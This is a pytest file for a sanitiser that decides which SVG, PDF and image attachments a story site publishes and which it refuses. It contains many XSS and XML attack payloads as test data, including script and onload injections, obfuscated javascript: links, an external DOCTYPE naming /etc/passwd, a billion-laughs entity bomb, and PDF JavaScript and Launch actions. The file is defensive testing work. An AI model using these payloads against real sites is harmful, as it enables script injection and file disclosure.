"""A story's own files: what is published, what is refused and why, and the links that reach them.

The hostile SVGs are ours, written after the kinds of payload public XSS cheat sheets list for SVG
(script, handlers, foreignObject, animation rewriting a link, entities, stylesheets, other hosts)."""

from __future__ import annotations

import os
import struct
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import REPO
from interlock.attachments import audit_pdf, audit_svg, relative_links, resolve_link, scan_attachments
from interlock.model import Settings

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def png(extra: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(b"\x00\x80\x80\x80")) + extra + chunk(b"IEND", b"")


def site_settings(root: Path, max_kb: int = 1024) -> Settings:
    return Settings(root, root / "stories", root / "priorities", ["2026.1"], "2026.1", [], {}, attachment_max_kb=max_kb)


def test_the_demo_diagram_is_only_a_drawing() -> None:
    assert audit_svg((REPO / "stories" / "gpu-host-maintenance" / "maintenance-flow.svg").read_bytes()) == []


DRAWINGS = [
    f'<svg {SVG} viewBox="0 0 4 4"><rect width="4" height="4" fill="url(#g)"/><defs><linearGradient id="g"/></defs></svg>',
    f'<svg {SVG}><use xlink:href="#shape"/><path id="shape" d="M0 0h1"/></svg>',
    f'<svg {SVG}><a href="https://docs.openstack.org/nova/"><text>nova docs</text></a></svg>',
    f'<svg {SVG}><image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/></svg>',
    f'<svg {SVG}><style>.box {{ fill: #eee; stroke: url(#edge) }}</style><rect class="box"/></svg>',
    f'<?xml version="1.0" encoding="UTF-8"?>\n<svg {SVG}><title>Racks</title><desc>Four racks</desc></svg>',
    # Editors' own namespaces are ignored by browsers: kept.
    f'<svg {SVG} xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"><inkscape:grid/></svg>',
]


@pytest.mark.parametrize("svg", DRAWINGS)
def test_drawings_are_published(svg: str) -> None:
    assert audit_svg(svg.encode()) == []


HOSTILE = [
    (f"<svg {SVG}><script>alert(1)</script></svg>", "R603", "<script>"),
    (f'<svg {SVG} onload="alert(1)"/>', "R603", "'onload='"),
    (f'<svg {SVG}><rect ONCLICK="alert(1)"/></svg>', "R603", "'ONCLICK='"),
    (f'<svg {SVG}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject></svg>', "R603", "<foreignObject>"),
    (f'<svg {SVG}><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "R603", "'javascript:'"),
    (f'<svg {SVG}><a href=" jav&#x09;ascript:alert(1)"><text>x</text></a></svg>', "R603", "'javascript:'"),
    (f'<svg {SVG}><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>x</text></a></svg>', "R603", "'data:'"),
    (f'<svg {SVG}><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>', "R603", "<set>"),
    (f'<svg {SVG}><animate attributeName="href" values="javascript:alert(1)"/></svg>', "R603", "<animate>"),
    (f'<svg {SVG}><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>', "R603", "'data:'"),
    (f'<svg {SVG}><use href="other.svg#part"/></svg>', "R603", "another file"),
    (f'<svg {SVG}><image href="https://tracker.example.net/p.png"/></svg>', "R310", "tracker.example.net"),
    (f'<svg {SVG}><image xlink:href="//tracker.example.net/p.png"/></svg>', "R310", "tracker.example.net"),
    (f'<svg {SVG}><rect style="fill: url(https://tracker.example.net/f)"/></svg>', "R310", "tracker.example.net"),
    (f"<svg {SVG}><style>@import url(https://tracker.example.net/s.css);</style></svg>", "R603", "@import"),
    (f'<?xml-stylesheet href="https://tracker.example.net/s.css"?><svg {SVG}/>', "R603", "xml-stylesheet"),
    (f'<svg {SVG} xml:base="https://tracker.example.net/"><use href="#a"/></svg>', "R603", "xml:base"),
    (f'<svg {SVG}><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script></svg>', "R603", "<script>"),
    (f'<!DOCTYPE svg SYSTEM "file:///etc/passwd"><svg {SVG}/>', "R603", "DOCTYPE"),
    (
        f'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg {SVG}><text>&b;&b;&b;&b;</text></svg>',
        "R603",
        "DOCTYPE",
    ),
    ("<svg><script>alert(1)</script></svg>", "R601", "not an SVG drawing"),  # no namespace: not drawn as SVG
    ('<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>', "R601", "not an SVG drawing"),
    (f"<svg {SVG}><rect></svg>", "R601", "not well-formed"),
    ("", "R601", "not well-formed"),
]


@pytest.mark.parametrize(("svg", "code", "says"), HOSTILE)
def test_active_or_broken_svg_is_refused(svg: str, code: str, says: str) -> None:
    found = audit_svg(svg.encode())
    assert found, svg
    assert any(c == code and says in message for _, c, message in found), found
    assert all(message.startswith("this SVG is not published") for _, _, message in found)


def test_svg_findings_carry_their_line() -> None:
    svg = f'<svg {SVG}>\n<rect/>\n<circle onclick="x()"/>\n</svg>'.encode()
    assert [line for line, _, _ in audit_svg(svg)] == [3]


def test_billion_laughs_is_refused_before_it_expands() -> None:
    entities = "".join(f'<!ENTITY e{i} "{"".join(f"&e{i - 1};" for _ in range(10)) if i else "lol"}">' for i in range(10))
    found = audit_svg(f"<!DOCTYPE svg [{entities}]><svg {SVG}><text>&e9;</text></svg>".encode())
    assert [c for _, c, _ in found] == ["R603"]


def pdf(body: bytes, compress: bool = False) -> bytes:
    if compress:
        packed = zlib.compress(body)
        return b"%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + packed + b"\nendstream\nendobj\n%%EOF\n"
    return b"%PDF-1.7\n1 0 obj\n" + body + b"\nendobj\n%%EOF\n"


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "JavaScript"),
        (pdf(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"), "JavaScript"),  # PDF names may escape letters as #xx
        (pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>", compress=True), "JavaScript"),  # hidden in an object stream
        (pdf(b"<< /S /Launch /F (calc.exe) >>"), "starts a program"),
        (pdf(b"<< /EmbeddedFiles << /Names [] >> >>"), "embedded files"),
        (pdf(b"<< /AcroForm << /XFA 5 0 R >> >>"), "XFA"),
        (pdf(b"<< /S /SubmitForm /F (https://tracker.example.net/) >>"), "sends data"),
    ],
)
def test_pdf_with_actions_is_refused(data: bytes, says: str) -> None:
    found = audit_pdf(data)
    assert len(found) == 1 and found[0][1] == "R603" and says in found[0][2]


def test_a_plain_pdf_is_published() -> None:
    assert audit_pdf(pdf(b"<< /Type /Page /Annots [<< /Subtype /Link /A << /S /URI /URI (https://openstack.org/) >> >>] >>")) == []
    assert audit_pdf(pdf(b"<< /Type /Catalog /Pages 2 0 R >>", compress=True)) == []


def make_story(root: Path, files: dict[str, bytes]) -> Path:
    folder = root / "stories" / "racks"
    folder.mkdir(parents=True)
    (root / "stories" / "racks.md").write_text("---\ntitle: Racks\n---\n", "utf-8")
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    return folder


def scan(root: Path, folder: Path, max_kb: int = 1024) -> tuple[dict[str, bool], list[tuple[str, str, str]]]:
    found = scan_attachments([folder], site_settings(root, max_kb))
    published = {name: not a.refused for name, a in found.by_story["racks"].items()}
    return published, [(d.path, d.code, d.message) for d in found.problems]


def test_files_are_published_by_type_content_and_size(tmp_path: Path) -> None:
    folder = make_story(
        tmp_path,
        {
            "racks.png": png(),
            "big.png": png(b"\x00" * 3000),
            "fake.png": b"<html><script>alert(1)</script></html>",
            "notes.docx": b"PK\x03\x04",
            "flow.svg": f'<svg {SVG}><rect width="1" height="1"/></svg>'.encode(),
            "plan.pdf": pdf(b"<< /Type /Catalog >>"),
            "sub/detail.gif": b"GIF89a\x01\x00\x01\x00",
            "photo.webp": b"RIFF\x10\x00\x00\x00WAVEfmt ",
        },
    )
    published, problems = scan(tmp_path, folder, max_kb=2)
    assert published == {
        "big.png": False,
        "fake.png": False,
        "flow.svg": True,
        "notes.docx": False,
        "photo.webp": False,
        "plan.pdf": True,
        "racks.png": True,
        "sub/detail.gif": True,
    }
    assert [(path, code) for path, code, _ in problems] == [
        ("stories/racks/big.png", "R602"),
        ("stories/racks/fake.png", "R601"),
        ("stories/racks/notes.docx", "R601"),
        ("stories/racks/photo.webp", "R601"),
    ]


def test_names_links_and_depth(tmp_path: Path) -> None:
    folder = make_story(tmp_path, {"a/b/c/deep.png": png(), "ok.png": png()})
    (folder / "my diagram.png").write_bytes(png())
    (folder / ".DS_Store").write_bytes(b"\0")
    (tmp_path / "secret.png").write_bytes(png())
    (folder / "out.png").symlink_to(tmp_path / "secret.png")  # in the repository, not in the story's folder
    (folder / "host.png").symlink_to("/etc/hostname")
    (folder / "inside.png").symlink_to(folder / "ok.png")
    (folder / "loop.png").symlink_to(folder / "loop.png")
    published, problems = scan(tmp_path, folder)
    assert published == {"inside.png": True, "ok.png": True}
    messages = {path.rpartition("/")[2]: (code, message) for path, code, message in problems}
    assert messages["my diagram.png"][0] == "R601" and "rename it 'my-diagram.png'" in messages["my diagram.png"][1]
    assert messages[".DS_Store"][0] == "R008"
    assert messages["out.png"] == ("R604", messages["out.png"][1]) and "of the folder of 'racks'" in messages["out.png"][1]
    assert messages["host.png"][0] == "R604" and "out of the repository" in messages["host.png"][1]
    assert messages["loop.png"][0] == "R604"
    assert messages["c"][0] == "R601" and "nested more than 3" in messages["c"][1]


def test_a_name_with_control_characters_is_shown_escaped(tmp_path: Path) -> None:
    folder = make_story(tmp_path, {})
    (folder / os.fsdecode(b"evil\n::error::x.png")).write_bytes(png())
    _, problems = scan(tmp_path, folder)
    assert len(problems) == 1 and "\n" not in problems[0][2] and "\\n" in problems[0][2]


@pytest.mark.parametrize(
    ("line", "links"),
    [
        ("![Flow](racks/flow.svg)", ["racks/flow.svg"]),
        ('![Flow](racks/flow.svg "the flow") and [plan](racks/plan.pdf)', ["racks/flow.svg", "racks/plan.pdf"]),
        ("![Flow](<racks/my flow.svg>)", ["racks/my flow.svg"]),
        ("[spec]: racks/spec.pdf", ["racks/spec.pdf"]),
        ('<img src="racks/a.png" alt="a"> <a href=\'other.md\'>other</a>', ["racks/a.png", "other.md"]),
        ("[docs](https://docs.openstack.org/) [top](#problem) [abs](/x.png) [mail](mailto:a@b.org)", []),
        ("[wiki](racks/a_(b).png)", ["racks/a_(b).png"]),
    ],
)
def test_relative_links_of_a_line(line: str, links: list[str]) -> None:
    assert [target for _, target in relative_links(line)] == links


def test_links_resolve_from_the_stories_folder() -> None:
    assert resolve_link("racks/flow.svg#part", "stories") == "stories/racks/flow.svg"
    assert resolve_link("./racks/a%20b.png", "stories") == "stories/racks/a b.png"
    assert resolve_link("../../etc/passwd", "stories") == "../etc/passwd"


SVG_PARTS = [
    f"<svg {SVG}>",
    "</svg>",
    "<script>x()</script>",
    '<rect onload="x()"/>',
    '<use href="#a"/>',
    '<image href="https://h.example/x"/>',
    "<!DOCTYPE svg>",
    '<!ENTITY a "b">',
    "&a;",
    "<![CDATA[",
    "]]>",
    "<?xml-stylesheet?>",
    "<style>@import url(x)</style>",
    "<foreignObject>",
    "\x00",
    "\ufeff",
    "<" * 50,
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(SVG_PARTS) | st.text(max_size=20), max_size=30), st.sampled_from(["utf-8", "utf-16", "latin-1"]))
def test_any_svg_gets_a_verdict_never_an_exception(parts: list[str], encoding: str) -> None:
    data = "".join(parts).encode(encoding, "replace")
    found = audit_svg(data)
    assert all(code in ("R310", "R601", "R603") and line >= 1 for line, code, _ in found)
    if any(part in data.decode(encoding, "replace") for part in ("<script>", "onload=", "<!DOCTYPE", "<!ENTITY", "<foreignObject>")):
        assert found  # never a drawing with any of these published


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2000), st.booleans())
def test_any_pdf_gets_a_verdict_never_an_exception(data: bytes, stream: bool) -> None:
    body = b"%PDF-1.4\n" + (b"stream\n" + data + b"\nendstream" if stream else data)
    assert all(code == "R603" for _, code, _ in audit_pdf(body))
